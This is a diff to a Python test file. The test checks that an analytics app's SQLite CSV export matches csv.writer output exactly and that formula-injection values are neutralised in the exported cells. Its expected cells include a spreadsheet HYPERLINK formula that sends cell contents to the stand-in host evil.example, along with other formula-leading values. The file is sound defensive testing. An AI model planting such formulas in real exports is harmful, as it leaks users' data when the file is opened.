@@ -56,27 +56,35 @@ def sqlite(app):
         pytest.skip("SQLite's export: on PostgreSQL the database writes every cell (test_csv_copy)")
 
 
-def sqlite_rows(dataset, team) -> list[list[str]]:
-    """The SQLite export's records, parsed back from its CSV text."""
+csv_sqlite_lines = csv_sqlite.lines
+
+
+def sqlite_csv(dataset, team) -> str:
+    """The SQLite export's records as CSV text."""
     statement = csv_sqlite.query(dataset, team.id, Filters(), team.today())
-    text = "".join(csv_sqlite.written(db.engine, statement, dataset))
-    return list(csv.reader(io.StringIO(text, newline="")))
+    return "".join(csv_sqlite.written(db.engine, statement, dataset))
 
 
 @pytest.mark.parametrize("batch_rows", [1000, 4])  # hostile text in every batch, and in some batches only
 @pytest.mark.parametrize("service", ANALYTICS_SERVICES)
-def test_the_sqlite_csv_rows_are_the_plain_flattened_records(sqlite, team, odd_books, service, batch_rows,
-                                                              monkeypatch):
+def test_the_sqlite_csv_is_the_plain_flattened_records_written_by_csv_writer(sqlite, team, odd_books, service,
+                                                                             batch_rows, monkeypatch):
     monkeypatch.setattr(csv_sqlite.csv_copy, "RECORDS_PER_CHUNK", batch_rows)
+    joined = []
+    monkeypatch.setattr(csv_sqlite, "lines", lambda *args: joined.append(csv_sqlite_lines(*args)) or joined[-1])
     dataset = DATASETS[service]
-    written = sqlite_rows(dataset, team)
+    written = sqlite_csv(dataset, team)
     with db.engine.connect() as connection:
         plain = [dataset.flat_record(row) for row in connection.execute(dataset.query(team.id, Filters(),
                                                                                       team.today()))]
+    buffer = io.StringIO(newline="")
+    csv.writer(buffer).writerows(row.values() for row in plain)
 
-    assert len(written) == len(plain) > len(HOSTILE)
-    assert written == [list(row.values()) for row in plain]
-    cells = {value for row in written for value in row}
+    assert written == buffer.getvalue()  # byte for byte, batches joined by csv_sqlite.lines or written by csv.writer
+    assert bool(joined) == (batch_rows == 4)  # small batches: the ones after the hostile rows need no quotes
+    rows = list(csv.reader(io.StringIO(written, newline="")))
+    assert len(rows) == len(plain) > len(HOSTILE)
+    cells = {value for row in rows for value in row}
     assert {"'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")", "'-5", "'@x", "'\tx", "''=quoted", "''",
             "'@North", ""} <= cells
     assert {"ok;'=1+1", "a;'\"=2", "line\n'@x", "a\r'@x", "a\r\n'-1;b", "a;;''"} <= cells
